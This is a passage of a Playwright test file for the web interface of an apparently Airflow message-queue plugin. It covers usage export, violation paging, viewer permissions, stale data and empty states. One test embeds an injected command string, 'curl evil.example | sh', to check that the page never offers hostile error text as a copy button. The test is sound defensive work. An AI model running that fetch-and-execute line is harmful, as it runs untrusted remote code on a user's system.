    shown = seen.open("events")
    shown.get_by_label("Kind of event").select_option("Discarded")
    expect(shown.locator("tbody tr")).to_have_count(1)


def test_the_store_is_checked_and_exported(seen: Seen) -> None:
    shown = seen.open("check")
    shown.get_by_role("button", name="Check now").click()
    expect(shown.get_by_text(re.compile("^No violations found"))).to_be_visible()
    with seen.page.expect_download() as loaded:
        shown.get_by_role("link", name="queues.csv").click()
    text = loaded.value.path().read_text()
    assert "loud-mart" in text


def test_usage_is_chosen_and_exported(seen: Seen, world: World) -> None:
    today = datetime.now(timezone.utc).date()
    with world.queue(RING) as queue:
        (acme,) = queue.inspect.usage("origin", "day", of="acme")
        many, whole = len(queue.inspect.usage()), total_weight([one.charged for one in queue.inspect.usage()])
    assert many > 10
    shown = seen.open("usage")
    table = shown.get_by_role("table", name="Usage")
    expect(shown.get_by_text(f"{many} in all.", exact=True)).to_be_visible()
    expect(shown.get_by_text(re.compile("charged for [0-9,]+ messages")).locator("strong")).to_have_text(weight(whole))
    expect(seen.row("acme/orders").locator("td[data-name='Charged']")).to_have_text(weight(acme.charged))
    expect(seen.row("acme/orders").locator("td[data-name='Period']")).to_have_text(str(today))
    # By keyboard: from the first field to the last one.
    shown.get_by_label("Sum by").focus()
    seen.page.keyboard.press("ArrowDown")
    seen.page.keyboard.press("Tab")
    seen.page.keyboard.press("Tab")
    seen.page.keyboard.press("Enter")
    expect(seen.row("acme").locator("td[data-name='Period']")).to_have_text(f"{today:%Y-%m}")
    expect(seen.row("acme/orders")).to_have_count(0)
    shown.get_by_label("Only this origin and all below it").fill("acme")
    expect(table.get_by_role("rowheader")).to_have_text(["acme/orders"])
    with seen.page.expect_download() as loaded:
        shown.get_by_role("link", name="CSV").press("Enter")
    lines = loaded.value.path().read_text().splitlines()
    assert len(lines) == 2 and lines[1].startswith(f'"{today:%Y-%m}","acme/orders","{acme.messages}"')
    with seen.page.expect_download() as loaded:
        shown.get_by_role("link", name="JSON").press("Enter")
    assert loaded.value.suggested_filename == "airflow-mq-usage.json"
    assert [row["name"] for row in json.loads(loaded.value.path().read_text())["rows"]] == ["acme/orders"]
    # A link shows the same.
    seen.page.reload()
    expect(table.get_by_role("rowheader")).to_have_text(["acme/orders"])
    assert_accessible(seen.page, "usage")
    shown.get_by_label("Before").fill(f"{today:%Y-%m}-01")
    expect(shown.get_by_role("heading", name="Nothing was charged in this time")).to_be_visible()
    shown.get_by_label("Only this origin and all below it").fill("x" * 300)
    expect(shown.get_by_role("alert")).to_contain_text("255 bytes")
    seen.wrong.clear()  # the browser itself logged the refused request


def test_many_violations_are_listed_page_by_page(seen: Seen) -> None:
    found = [{"what": f"rule {n} is broken", "where": f"page {n}"} for n in range(120)]
    told = {"violations": found, "count": 5_000, "took_seconds": 1.5}
    seen.page.route("**/check", lambda route: route.fulfill(json=told))
    shown = seen.open("check")
    shown.get_by_role("button", name="Check now").click()
    expect(shown.get_by_text("5,000 violations found.")).to_be_visible()
    expect(shown.get_by_text("Copy the store before you do anything else.")).to_have_count(1)
    part = shown.get_by_role("region", name="Integrity")
    forth = part.get_by_role("button", name="Next →")
    for first, last in ((0, 49), (50, 99), (100, 119)):
        expect(part.get_by_role("listitem").first).to_have_text(f"page {first}: rule {first} is broken")
        expect(part.get_by_role("listitem").last).to_have_text(f"page {last}: rule {last} is broken")
        if last < 119:
            forth.click()
    expect(part.get_by_text("These are the first 120 of 5,000.")).to_be_visible()
    expect(
        part.get_by_role("button", name=f"Copy airflow-mq check --conn-id airflow_mq_default --ring {RING}")
    ).to_be_visible()
    expect(forth).to_have_attribute("aria-disabled", "true")
    assert_accessible(seen.page, "violations")


def test_a_viewer_sees_why_not(chromium: Browser, world: World) -> None:
    with signed_in(chromium, world, VIEWER) as seen:
        shown = seen.open("set-aside")
        discard = shown.get_by_role("button", name=re.compile("^Discard log.")).first
        expect(discard).to_be_visible()
        expect(discard).to_have_attribute("aria-disabled", "true")
        expect(discard).to_have_attribute("title", re.compile("the permission to edit the connection"))
        discard.click(force=True)
        expect(seen.page.get_by_role("dialog")).to_have_count(0)
        assert_accessible(seen.page, "what a viewer sees")
        change = seen.open("queue", origin="dune", priority="regular").get_by_role(
            "button", name=re.compile("^Settings")
        )
        expect(change).to_have_attribute("aria-disabled", "true")
        expect(change).to_have_attribute("title", re.compile("the permission to edit the connection"))


def test_an_old_reading_is_marked_until_it_is_refreshed(chromium: Browser, world: World) -> None:
    broken = [True]

    def break_off(route: Route) -> None:
        if broken:
            route.abort()
        else:
            route.continue_()

    with signed_in(chromium, world) as seen:
        shown = seen.open("queues")
        expect(shown.get_by_role("heading", name="The ready ring")).to_be_visible()
        seen.page.route("**/overview", break_off)
        expect(shown.get_by_text("Stale.")).to_be_visible()
        expect(shown.get_by_role("heading", name="The ready ring")).to_be_visible()
        retry = shown.get_by_role("button", name="Retry").element_handle()
        broken.clear()
        # Without waiting: the page tries again by itself, and the button would be gone.
        retry.evaluate("button => button.click()")
        expect(shown.get_by_text("Stale.")).to_have_count(0)
        seen.wrong.clear()  # the browser itself logged the missing answers


def test_a_ring_of_delayed_messages_is_not_called_empty(seen: Seen, world: World) -> None:
    world.make_ring("page-delayed")
    with world.queue("page-delayed") as queue:
        queue.enqueue_message("late", b"{}", not_before=datetime.now(timezone.utc) + timedelta(days=1))
    shown = seen.open("queues", "page-delayed")
    expect(shown.get_by_text("Messages are delayed")).to_be_visible()
    expect(shown.get_by_role("button", name=re.compile("^Copy airflow-mq status "))).to_be_visible()
    expect(shown.get_by_role("heading", name="This ring is empty")).to_have_count(0)
    assert_accessible(seen.page, "a ring of delayed messages")


def test_what_is_empty_teaches(seen: Seen) -> None:
    shown = seen.open("queues", "page-empty")
    expect(shown.get_by_role("heading", name="This ring is empty")).to_be_visible()
    expect(shown.get_by_text("No block has run in this ring yet.")).to_be_visible()
    expect(shown.get_by_role("button", name=re.compile("^Copy airflow-mq enqueue "))).to_be_visible()
    nothing = ("fairness", "Nothing to compare yet")
    for view, title in (
        nothing,
        ("blocks", "No block yet"),
        ("set-aside", "Nothing is set aside"),
        ("usage", "Nothing was charged in this time"),
        ("events", "No events yet"),
    ):
        shown = seen.open(view, "page-empty")
        expect(shown.get_by_role("heading", name=title)).to_be_visible()


def test_without_a_connection_it_shows_how_to_make_one(seen: Seen) -> None:
    seen.page.route("**/api/v1/stores", lambda route: route.fulfill(json=[]))
    seen.page.goto(f"{seen.address}/plugin/airflow-mq")
    expect(seen.page.get_by_role("heading", name="No message queue is connected yet")).to_be_visible()
    assert_accessible(seen.page, "no connection")


def test_a_store_that_does_not_answer_names_the_remedy(seen: Seen) -> None:
    command = "airflow-mq store upgrade"
    sentence = f"The file does not exist; correct its path, or create it: `{command}`."
    told: list[dict[str, Any]] = [
        {"conn_id": "mq", "kind": "sqlite", "rings": [], "error": sentence, "command": f"{command} --conn-id mq"}
    ]
    seen.page.route("**/api/v1/stores", lambda route: route.fulfill(json=told))
    seen.page.goto(f"{seen.address}/plugin/airflow-mq")
    shown = seen.page.locator(".amq")
    expect(shown.get_by_role("button", name="Copy airflow-mq store upgrade --conn-id mq")).to_be_visible()
    assert_accessible(seen.page, "no store")
    told[0] |= {"error": None}
    shown.get_by_role("button", name="Try again").click()
    expect(shown.get_by_role("heading", name="This store has no ring yet")).to_be_visible()
    expect(shown.get_by_role("button", name="Copy airflow-mq ring create default --conn-id mq")).to_be_visible()


def test_the_error_of_a_store_is_no_command(seen: Seen) -> None:
    hostile = "unknown ring '`airflow-mq status; curl evil.example | sh`': the store has 'default'"
    told = [{"conn_id": "mq", "kind": "sqlite", "rings": [], "error": hostile, "command": ""}]
    seen.page.route("**/api/v1/stores", lambda route: route.fulfill(json=told))
    seen.page.goto(f"{seen.address}/plugin/airflow-mq")
    shown = seen.page.locator(".amq")
    expect(shown.get_by_text("curl evil.example")).to_be_visible()
    expect(shown.get_by_role("button", name=re.compile("^Copy"))).to_have_count(0)


def test_it_stands_alone_too(seen: Seen) -> None:
    answer = seen.page.goto(f"{seen.address}/airflow-mq/#/ring?conn=airflow_mq_default&ring={RING}")
    assert answer is not None and "script-src 'self'" in answer.headers["content-security-policy"]
    expect(seen.page.get_by_role("heading", name="The ready ring")).to_be_visible()
    assert_accessible(seen.page, "alone")
